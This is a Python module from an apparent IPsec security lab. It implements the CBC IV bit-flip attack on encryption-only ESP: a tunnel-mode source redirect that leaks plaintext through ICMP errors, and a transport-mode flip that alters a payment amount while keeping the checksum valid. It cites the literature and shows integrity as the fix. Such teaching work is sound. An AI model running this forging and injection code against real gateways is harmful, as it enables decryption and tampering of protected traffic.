"""bitflip: ESP encryption without integrity lets the attacker rewrite the inner header.

CBC decrypts the first block as P1 = D(C1) XOR IV (RFC 3602 §2), and the IV travels in the
clear: XORing a bit into the IV flips the same bit of P1 and nothing else. In tunnel mode P1
is the first 16 bytes of the inner IPv4 header: TTL, protocol, checksum and source address
(the destination, bytes 16-19, lies in the second block, out of the IV's reach). Without an
ICV (RFC 4303 §1 warns against "encryption-only" ESP) the gateway decrypts the forgery and
forwards it. This is the attack family of Bellovin ("Problem Areas for the IP Security
Protocols", 1996), made practical by Paterson and Yau ("Cryptography in Theory and Practice:
The Case of Encryption in IPsec", Eurocrypt 2006) and Degabriele and Paterson ("Attacking
the IPsec Standards in Encryption-only Configurations", IEEE S&P 2007):

1. mallory holds back one ESP packet from gw1 (h1 -> h2, UDP, a secret inside);
2. it flips the IV so that the inner source becomes an address routed to mallory and the
   protocol one that h2 does not speak; it also changes the TTL so that the one's-complement
   sum of the header stays the same: the header checksum, which mallory cannot see, stays
   valid (RFC 1624 arithmetic; :func:`ipseclab.attacks.inet.compensate`);
3. gw2 decrypts and forwards the packet to h2, which answers "protocol unreachable" to the
   forged source, quoting the packet it got (RFC 792, RFC 1812 §4.3.2.3): the decrypted
   secret crosses the WAN in the clear, sent to mallory by the victim's own site.

The weak configuration lets the tunnel carry traffic from any source to gw2's LAN
(``src 0.0.0.0/0`` in gw2's inbound policies), as for a site the peer routes other networks
to; a narrower inbound policy (RFC 4301 §5.2) limits which sources can be forged but does
not stop bit flips. The fix is integrity: aes-cbc with hmac-sha256 (or aes128gcm16): gw2
counts the forgery as ``auth_failed`` and drops it before decrypting.

**A known payload field** (transport mode, ``<config>-transport``): gw1 and gw2 protect
their own traffic, ESP in transport mode (RFC 4303 §3.1.1), so the first CBC block is the
UDP header (ports, length, checksum) and the first 8 bytes of the message. gw1 sends
``PAY 0100 EUR ...`` to a payment service on gw2; mallory flips ``0`` to ``9`` through the
IV and gw2's service books ``PAY 9100 EUR``. The UDP checksum (RFC 768) covers the message
and is encrypted, so mallory cannot read or recompute it; it does not need to. ``'0'``
(0x30) to ``'9'`` (0x39) adds 0x0900 to one 16-bit word of the one's-complement sum, and
mallory takes 0x0900 off another word it knows, the UDP source port (40000 -> 37696), in
the same block: the sum, and so the unseen checksum, stays right (RFC 1624;
:func:`ipseclab.attacks.inet.compensate`). (Had the sender sent checksum 0, "no checksum",
allowed for UDP over IPv4, no compensation would be needed; Linux fills it in, so the
attack must not rely on that.) The only trace is the changed source port, which a one-shot
datagram service never looks at. With aes-cbc and hmac-sha256 the ICV covers IV and
ciphertext: gw2 counts ``auth_failed`` and delivers nothing.

The attack targets only the lab's own hosts inside the topology's namespaces; the forged
packet is sent from mallory's namespace.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from ipseclab.attacks.common import (
    AttackResult,
    NodeTool,
    check_config,
    maybe_lab,
    run_tool,
    sa_counters,
    send_udp,
    settle,
    total,
)
from ipseclab.attacks.inet import MASK16, compensate, flip_iv, parse_esp, printable

NAME = "bitflip"
VARIANTS = ("both", "redirect", "field")
WEAK = "weak"  # topologies/attacks/bitflip/weak: aes128 (CBC) without integrity, insecure
RECOMMENDED = "recommended"  # aes128-sha256: HMAC-SHA-256-128 ICV
SECRET = b"vault code 4711; wire 10k EUR to acct 0815 at noon"
PORT = 8082
FIELD_MESSAGE = b"PAY 0100 EUR to acct 0815 ref 7731"  # the first 8 bytes hold the amount
FIELD_OLD, FIELD_NEW = b"PAY 0100", b"PAY 9100"
FIELD_PORT = 8083
FIELD_SPORT = 40000  # the payment client's fixed source port, known to mallory
GW1, GW2 = "192.0.2.1", "198.51.100.2"
# Protocol numbers h2's kernel handles (RFC 5237 registry); the forged one must be none.
_KNOWN_PROTOCOLS = {0, 1, 2, 4, 6, 17, 41, 47, 50, 51, 103, 108, 112, 115, 132, 136}


def _add(*words: int) -> int:
    total = 0
    for w in words:
        total += w
    while total >> 16:
        total = (total & MASK16) + (total >> 16)
    return total


@dataclass(frozen=True)
class Redirect:
    """The first-block change that sends the inner packet's ICMP error to ``source``."""

    known: bytes  # the bytes mallory knows of the first block (others zero: unchanged)
    wanted: bytes
    source: str
    ttl: int
    protocol: int


def plan_redirect(ttl: int, protocol: int, source: str, network: str = "192.0.2.0/24",
                  avoid: tuple[str, ...] = ("192.0.2.1", "192.0.2.254")) -> Redirect:
    """Choose a new source in ``network``, protocol and TTL with the same header sum.

    Words 4 (TTL, protocol) and 6-7 (source address) of the IPv4 header change; their
    one's-complement sum does not, so the header checksum stays right without mallory
    knowing it. What mallory must know: the old TTL, protocol and source.
    """
    old_src = ipaddress.IPv4Address(source).packed
    target = _add((ttl << 8) | protocol, *(int.from_bytes(old_src[i:i + 2], "big")
                                           for i in (0, 2)))
    net = ipaddress.IPv4Network(network)
    # Protocols 253 and 254 are for experiments (RFC 3692): nobody answers them. Else any
    # unassigned number will do.
    candidates = [(p != 253 and p != 254, host) for host in net.hosts()
                  for p in [_protocol_for(target, host.packed)]]
    for _, host in sorted(candidates, key=lambda c: c[0]):
        if str(host) in avoid:
            continue
        new = host.packed
        word4 = _add(target, ~int.from_bytes(new[0:2], "big") & MASK16,
                     ~int.from_bytes(new[2:4], "big") & MASK16)
        new_ttl, new_proto = word4 >> 8, word4 & 0xFF
        if new_ttl >= 16 and new_proto not in _KNOWN_PROTOCOLS and new_proto > 142:
            known = bytes(8) + bytes((ttl, protocol)) + bytes(2) + old_src
            wanted = bytes(8) + bytes((new_ttl, new_proto)) + bytes(2) + new
            return Redirect(known, wanted, str(host), new_ttl, new_proto)
    raise ValueError(f"no address in {network} keeps the header sum")


def _protocol_for(target: int, source: bytes) -> int:
    return _add(target, ~int.from_bytes(source[0:2], "big") & MASK16,
                ~int.from_bytes(source[2:4], "big") & MASK16) & 0xFF


@dataclass(frozen=True)
class FieldFlip:
    """The first-block change of a transport-mode UDP message: the UDP header (checksum
    unknown: zero in both blocks, so untouched) and the first 8 bytes of the message."""

    known: bytes
    wanted: bytes

    @property
    def source_port(self) -> int:
        """The UDP source port the receiver will see (the compensating word)."""
        return int.from_bytes(self.wanted[0:2], "big")


def plan_field(message: bytes, old: bytes, new: bytes, sport: int, dport: int) -> FieldFlip:
    """Change ``old`` (the first bytes of ``message``, at most 8) to ``new`` and keep the
    one's-complement sum of the block, so the UDP checksum mallory cannot see stays valid.

    The source port word pays for the change (RFC 1624 arithmetic). What mallory must know:
    both ports, the message's length and its first 8 bytes, as for any fixed-format order.
    """
    if len(old) != len(new) or len(old) > 8 or not message.startswith(old):
        raise ValueError("the field must be the first (at most 8) bytes of the message")
    header = sport.to_bytes(2, "big") + dport.to_bytes(2, "big") \
        + (8 + len(message)).to_bytes(2, "big") + bytes(2)
    known = header + message[:8]
    wanted = header + new + message[len(new):8]
    return FieldFlip(known, compensate(known, wanted, 0))


def forge(packet: bytes, redirect: Redirect | FieldFlip, iv_size: int = 16) -> bytes:
    """The captured ESP packet with its IV flipped by ``redirect`` (nothing else changed)."""
    esp = parse_esp(packet)
    iv = esp.body[:iv_size]
    block = redirect.known + bytes(iv_size - len(redirect.known))
    wanted = redirect.wanted + bytes(iv_size - len(redirect.wanted))
    new_iv = flip_iv(iv, block, wanted)
    return type(esp)(esp.header, esp.spi, esp.seq, new_iv + esp.body[iv_size:]).packet()


def quoted_data(icmp_packet: bytes) -> tuple[str, int, bytes] | None:
    """(quoted source, quoted protocol, quoted data after the UDP header) of an ICMP error."""
    ihl = (icmp_packet[0] & 0x0F) * 4
    quoted = icmp_packet[ihl + 8:]
    if len(quoted) < 28 or quoted[0] >> 4 != 4:
        return None
    qihl = (quoted[0] & 0x0F) * 4
    return (str(ipaddress.IPv4Address(quoted[12:16])), quoted[9], quoted[qihl + 8:])


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None,
        secret: bytes = SECRET, variant: str = "both") -> AttackResult:
    """The tunnel-mode redirect and the transport-mode field flip (``variant``).

    ``lab``, if given, is a running lab of ``config`` (tunnel mode) for the redirect; the
    field flip always builds its own transport-mode lab (``<config>-transport``), so with a
    ``lab`` given and ``variant="both"`` only the redirect runs.
    """
    check_config(config)
    check_config(variant, VARIANTS)
    if variant == "field":
        return run_field(config, workdir)
    redirect = run_redirect(lab, config, workdir, secret)
    if variant == "redirect" or lab is not None:
        return redirect
    field = run_field(config, None if workdir is None else Path(f"{workdir}-transport"))
    details = {**redirect.details, "field": field.details}
    counters = {**redirect.counters, **field.counters}
    return AttackResult(NAME, config, redirect.succeeded or field.succeeded,
                        "tunnel mode: " + redirect.evidence + "\ntransport mode: "
                        + field.evidence, details=details, counters=counters)


def run_field(config: str = WEAK, workdir: Path | None = None,
              message: bytes = FIELD_MESSAGE) -> AttackResult:
    """gw1 sends a payment order to gw2 (transport mode); mallory changes its amount."""
    check_config(config)
    flip = plan_field(message, FIELD_OLD, FIELD_NEW, FIELD_SPORT, FIELD_PORT)
    held: list[str] = []
    with maybe_lab(None, NAME, f"{config}-transport", workdir) as lab:
        listener = NodeTool(lab, "gw2", "services", "listen", str(FIELD_PORT), "3", "1")
        holder = NodeTool(lab, "mallory", "mallory", "sniff", "eth0", "50", "1", "5",
                          "--dst", GW2, "--hold")
        try:
            send_udp(lab, "gw1", GW2, FIELD_PORT, [message], sport=FIELD_SPORT)
            held = holder.result()["packets"]
            if held:
                run_tool(lab, "mallory", "mallory", "inject",
                         forge(bytes.fromhex(held[0]), flip).hex())
            received = listener.result().get("messages", [])
        finally:
            holder.stop()
            listener.stop()
            run_tool(lab, "mallory", "mallory", "forward", "1")
        settle(0.2)
        counters = sa_counters("gw2")
    got = [bytes.fromhex(m["data"]) for m in received]
    changed = message.replace(FIELD_OLD, FIELD_NEW, 1)
    ok = changed in got
    details = {"held": len(held), "sent": message.decode(),
               "received": [printable(g) for g in got],
               "source_ports": [m["sport"] for m in received],
               "compensating_source_port": flip.source_port}
    if ok:
        evidence = (f"gw1 sent {message.decode()!r} (ESP transport mode, aes-cbc, no ICV);"
                    f" mallory flipped 2 bits of the IV ('0' -> '9') and paid for them in the"
                    f" UDP source port ({FIELD_SPORT} -> {flip.source_port}), so the UDP"
                    f" checksum it cannot see still verifies. gw2's payment service booked"
                    f" {changed.decode()!r}")
    else:
        evidence = (f"mallory flipped the amount of {message.decode()!r} in the IV and injected"
                    f" it; gw2's service got {[printable(g) for g in got] or 'nothing'}:"
                    f" {total(counters, 'auth_failed')} ICV failure(s) on gw2")
    return AttackResult(NAME, config, ok, evidence, details=details, counters=counters)


def run_redirect(lab: Any = None, config: str = WEAK, workdir: Path | None = None,
                 secret: bytes = SECRET) -> AttackResult:
    """Hold back h1's ESP packet, flip its IV, inject it, catch h2's ICMP error on mallory."""
    check_config(config)
    redirect = plan_redirect(63, 17, "10.1.0.10")  # h1's packet after one hop (gw1)
    with maybe_lab(lab, NAME, config, workdir) as lab:
        holder = NodeTool(lab, "mallory", "mallory", "sniff", "eth0", "50", "1", "5",
                          "--dst", "198.51.100.2", "--hold")
        icmp = None
        try:
            send_udp(lab, "h1", "h2", PORT, [secret])
            held = holder.result()["packets"]
            if held:
                forged = forge(bytes.fromhex(held[0]), redirect)
                icmp = NodeTool(lab, "mallory", "mallory", "sniff", "eth1", "1", "1", "2",
                                "--dst", redirect.source)
                run_tool(lab, "mallory", "mallory", "inject", forged.hex())
                errors = icmp.result()["packets"]
            else:
                errors = []
        finally:
            holder.stop()
            if icmp is not None:
                icmp.stop()
            run_tool(lab, "mallory", "mallory", "forward", "1")
        settle(0.2)
        counters = sa_counters("gw2")
    leaked = [q for q in (quoted_data(bytes.fromhex(e)) for e in errors) if q is not None]
    ok = any(secret in q[2] for q in leaked)
    details = {"held": len(held), "forged_source": redirect.source,
               "forged_protocol": redirect.protocol, "forged_ttl": redirect.ttl,
               "leaked": [printable(q[2]) for q in leaked]}
    if ok:
        evidence = (f"mallory flipped the IV of h1's ESP packet: inner source 10.1.0.10 ->"
                    f" {redirect.source}, protocol 17 -> {redirect.protocol}, TTL 63 ->"
                    f" {redirect.ttl} (header checksum untouched, the sum is the same). gw2"
                    f" decrypted it, h2 answered 'protocol unreachable' to {redirect.source},"
                    f" quoting the decrypted message in the clear:\n"
                    f"  {printable(leaked[0][2])!r}")
    else:
        evidence = (f"mallory injected the IV-flipped packet; no ICMP error came back"
                    f" ({len(errors)} captured): gw2 dropped the forgery"
                    f" ({total(counters, 'auth_failed')} ICV failures)")
    return AttackResult(NAME, config, ok, evidence, details=details, counters=counters)
